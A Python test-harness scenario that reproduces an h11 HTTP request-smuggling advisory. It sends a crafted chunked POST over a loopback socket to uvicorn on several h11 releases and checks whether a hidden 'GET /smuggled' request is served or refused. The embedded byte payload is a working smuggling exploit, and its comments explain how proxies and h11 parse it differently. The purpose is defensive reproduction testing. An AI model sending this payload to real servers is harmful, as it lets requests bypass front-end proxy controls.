"""h11-chunked-terminator-smuggling: CVE-2025-43859 / GHSA-vqfr-h8mv-ghfj, executed.

One write on a raw loopback socket, the shape of the advisory's example: a chunked
``POST /one`` whose first chunk (``5``, ``AAAAA``) is followed by ``XX`` where the
chunk's CR LF belongs, then bytes that a proxy reading "until the end of the line"
takes for one large chunk, holding ``GET /smuggled``. A strict parser refuses the
body at ``XX``; h11 before 0.16.0 skipped any two bytes there, so it reads ``/one``
with a 7-byte body and then ``GET /smuggled`` as a second request on the same
connection: the request a proxy in front never saw.

``reproduces`` (kind ``smuggled-request-served``): a response to ``/smuggled``.
``fixed`` (kind ``malformed-body-refused``): the server answers 400 (or closes)
and serves nothing for ``/smuggled``.

Each ``h11-X.Y.Z`` scenario installs that h11 release beside the uvicorn release
and runs ``--http h11`` (the evidence of an h11 range is read from these names,
docs/kb-schema.md). ``installed-h11`` runs whatever h11 the release resolves to
(and the reference server, which is built on the doctor's own h11).
``fix-httptools-h11-0.14.0`` keeps h11 0.14.0 installed and serves with ``--http
httptools``, whose parser (llhttp) checks the chunk's CR LF.
"""

from __future__ import annotations

import re

from troubleshoot.harness.api import Run, Verdict, pinned, scenario, uvicorn_only

HIDDEN = b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
# h11 < 0.16 reads: chunk 5 "AAAAA", skips "XX", chunk 2 "<hex>", skips CR LF, chunk 0,
# end; then GET /smuggled (chunked, empty). A proxy reading to the end of the line after
# each chunk reads: chunk 5 "AAAAA" (+ "XX2"), chunk <hex> = HIDDEN, chunk 0: one request.
REQUEST = (
    b"POST /one HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"5\r\nAAAAAXX2\r\n" + f"{len(HIDDEN):x}".encode() + b"\r\n" + HIDDEN + b"\r\n0\r\n\r\n"
)
assert 16 <= len(HIDDEN) < 256  # its size is the 2-byte chunk h11 reads

H11_RELEASES = ["0.8.1", *(f"0.{minor}.0" for minor in range(9, 17))]  # 0.8.1, 0.9.0 .. 0.16.0
OWN_H11 = uvicorn_only(
    "the reference server runs on the doctor's own h11: no other h11 can be pinned"
)


@scenario("installed-h11")
@pinned("h11", H11_RELEASES, requires=OWN_H11)
def _serve(run: Run, http: str = "h11") -> Verdict:
    h11 = run.version("h11")
    launch = run.launch_cli("app:app", http=http, timeout=20)
    if early := launch.unserved():
        return early
    answer = launch.raw(REQUEST)
    statuses = re.findall(rb"HTTP/1\.1 (\d{3})", answer)
    seen = f"h11 {h11}, --http {http}: statuses {[s.decode() for s in statuses]}"
    shown = answer.decode("latin-1")[-400:]
    if b"/smuggled read" in answer:
        return launch.reproduces("smuggled-request-served", f"{seen}; /smuggled was served", shown)
    if b"/one read" in answer:
        return launch.reproduces("malformed-body-accepted", f"{seen}; the bad body was read", shown)
    if statuses[:1] == [b"400"] or not statuses:
        launch.wait_for(r"Invalid HTTP request|malformed|chunk", 2)
        excerpt = f"{shown}\n{launch.tail(2)}"
        return launch.fixed("malformed-body-refused", f"{seen}; nothing served", excerpt)
    return launch.reproduces("other", seen, shown or None)


@scenario("fix-httptools-h11-0.14.0", requires=OWN_H11, extras={"": ["h11==0.14.0", "httptools"]})
def fix_httptools(run: Run) -> Verdict:
    return run.unpinned("h11", "0.14.0") or _serve(run, "httptools")
